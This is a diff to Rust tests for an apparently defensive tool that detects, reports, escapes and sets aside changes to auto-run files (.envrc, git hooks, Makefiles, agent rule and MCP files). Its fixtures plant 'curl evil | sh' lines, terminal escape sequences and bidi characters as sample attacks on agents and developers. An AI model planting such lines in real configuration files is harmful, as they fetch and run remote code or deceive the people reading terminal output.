@@ -70,7 +70,7 @@ impl Ground {
     /// The lines of what has changed, without why it matters.
     fn told(&self) -> Vec<String> {
         let look = self.look(false);
-        let lines = look.told(&look.changes()).into_iter().map(|(line, _)| line);
+        let lines = look.told(&look.changes()).lines.into_iter().map(|(line, _)| line);
         lines.map(|line| line.split(": check this").next().unwrap_or_default().to_owned()).collect()
     }
 
@@ -314,14 +314,49 @@ fn a_hundred_thousand_names_are_bounded_and_none_is_told_as_removed() {
         "{:?}",
         look.gaps()
     );
-    let told = look.told(&look.changes());
+    let told = look.told(&look.changes()).lines;
     assert_eq!(told.len(), 21);
-    assert_eq!(
-        told[20].0,
-        "280 more files that tools obey are new, changed or removed, 280 of which act by themselves"
-    );
+    let more =
+        "280 more files that tools obey are new, changed or removed, 280 of which act by themselves: all that changed";
+    assert!(told[20].0.starts_with(more), "{}", told[20].0);
     assert!(told.iter().all(|(line, _)| !line.contains("was removed")), "{told:?}");
     assert!(look.now.len() <= 2 * MOST);
+}
+
+#[test]
+fn many_changes_hide_none_and_what_is_not_shown_is_in_a_list() {
+    let g = Ground::new();
+    g.write("z/deep/er/.envrc", "of the user\n");
+    g.keep();
+    for n in 0..40 {
+        g.write(format!("a{n}/.editorconfig"), "decoy");
+    }
+    g.write("z/deep/er/.envrc", "of the user\ncurl evil | sh\n");
+    g.write(".husky/a b  `c", "evil\n\x1b[2J");
+    let look = g.look(false);
+    let told = look.told(&look.changes());
+    let first: Vec<&str> = told.lines.iter().take(3).map(|(line, _)| line.split(" is new").next().unwrap()).collect();
+    assert_eq!(first[0], "`.husky/a b\\u{20}\\u{20}\\u{60}c`");
+    assert!(
+        first[1].starts_with("`a0/.editorconfig`") && first[2].starts_with("`z/deep/er/.envrc` changed"),
+        "{first:?}"
+    );
+    assert_eq!(told.lines[2].1, ["+ curl evil | sh"]);
+    let list = g.dir.path().join("changed.txt");
+    let whole = format!("all that changed is in `{}`", list.display());
+    assert!(told.lines.last().unwrap().0.ends_with(&whole), "{:?}", told.lines.last());
+    assert_eq!(told.beyond.unwrap(), format!("42 files act by themselves, and lines of 8 are shown: {whole}"));
+    let text = fs::read_to_string(&list).unwrap();
+    assert_eq!(fs::metadata(&list).unwrap().mode() & 0o777, 0o600);
+    assert!((0..40).all(|n| text.contains(&format!("`a{n}/.editorconfig` is new"))), "{text}");
+    assert!(text.contains("\n    + decoy\n") && text.contains("    + \\u{1b}[2J\n"), "{text}");
+    // Few changes need no list, and no word about one.
+    look.keep(&[]).unwrap();
+    fs::remove_file(&list).unwrap();
+    g.write("a1/.editorconfig", "again");
+    let look = g.look(false);
+    let told = look.told(&look.changes());
+    assert!(told.lines.len() == 1 && told.beyond.is_none() && !list.exists());
 }
 
 #[test]
@@ -331,7 +366,7 @@ fn every_name_and_text_of_an_agents_is_shown_harmless() {
     let odd = OsStr::from_bytes(b".husky/\xff\x1b[2J\n\xe2\x80\xae");
     g.write(odd, "\x1b]0;owned\x07\u{202e}\r\n");
     let look = g.look(false);
-    let told = look.told(&look.changes());
+    let told = look.told(&look.changes()).lines;
     assert_eq!(told[0].0.split("` is new").next().unwrap(), "`.husky/\\xff\\u{1b}[2J\\n\\u{202e}");
     assert_eq!(told[0].1[0], "+ \\u{1b}]0;owned\\u{7}\\u{202e}\\r");
     look.keep(&[]).unwrap();
@@ -347,7 +382,7 @@ fn the_difference_is_shown_of_what_acts_by_itself_and_of_nothing_else() {
     g.write(".envrc", "export A=1\ncurl evil | sh\nexport B=2\n");
     g.write("Makefile", "all: evil\n");
     let look = g.look(false);
-    let shown: Vec<Vec<String>> = look.told(&look.changes()).into_iter().map(|(_, shown)| shown).collect();
+    let shown: Vec<Vec<String>> = look.told(&look.changes()).lines.into_iter().map(|(_, shown)| shown).collect();
     assert_eq!(shown, [vec!["+ curl evil | sh".to_owned()], Vec::new()]);
 }
 
@@ -596,6 +631,8 @@ fn what_is_set_aside_lies_where_no_tool_obeys_it_also_out_of_a_directory_of_whic
     g.write(".claude/commands/mine.md", "evil");
     g.write(format!(".vscode/{}", "x".repeat(250)), "evil");
     g.write("sub/.husky/pre-commit", "evil");
+    // A row that takes any end of the name.
+    g.write(".clinerules-evil", "evil");
     fs::create_dir_all(g.at(".mcp.json/inner")).unwrap();
     g.write(".mcp.json/inner/AGENTS.md", "evil");
     // Something of an agent's in the place of the directory for it.
@@ -607,7 +644,8 @@ fn what_is_set_aside_lies_where_no_tool_obeys_it_also_out_of_a_directory_of_whic
         let names: Vec<_> = fs::read_dir(g.at(dir)).unwrap().flatten().map(|one| one.file_name()).collect();
         assert!(names.iter().all(|name| name == "mine.md"), "{dir}: {names:?}");
     }
-    assert_eq!(fs::read_dir(g.at("codex-sandbox-set-aside-2")).unwrap().count(), 4, "{said:#?}");
+    assert_eq!(fs::read_dir(g.at("codex-sandbox-set-aside-2")).unwrap().count(), 5, "{said:#?}");
+    assert!(g.at("codex-sandbox-set-aside-2/aside.clinerules-evil.set-aside-1").exists(), "{said:#?}");
     assert!(!g.at(".mcp.json").exists() && g.at(".mcp.json.set-aside-1/inner/AGENTS.md.set-aside-1").exists());
     assert_eq!((g.told(), g.undecided()), (Vec::<String>::new(), Vec::<String>::new()));
 }
@@ -639,7 +677,7 @@ fn where_a_symlink_leads_and_what_lies_there_is_shown_and_put_back() {
     let look = g.look(false);
     let told = look.told(&look.changes());
     let shown = |name: &str| {
-        let told = told.iter().find(|(line, _)| line.starts_with(&format!("`{name}`")));
+        let told = told.lines.iter().find(|(line, _)| line.starts_with(&format!("`{name}`")));
         told.map(|(_, shown)| shown.clone()).unwrap_or_default()
     };
     assert_eq!(shown(".envrc"), ["- a symlink to `env.sh`", "+ a symlink to `evil.sh`", "- export A=1", "+ curl evil"]);
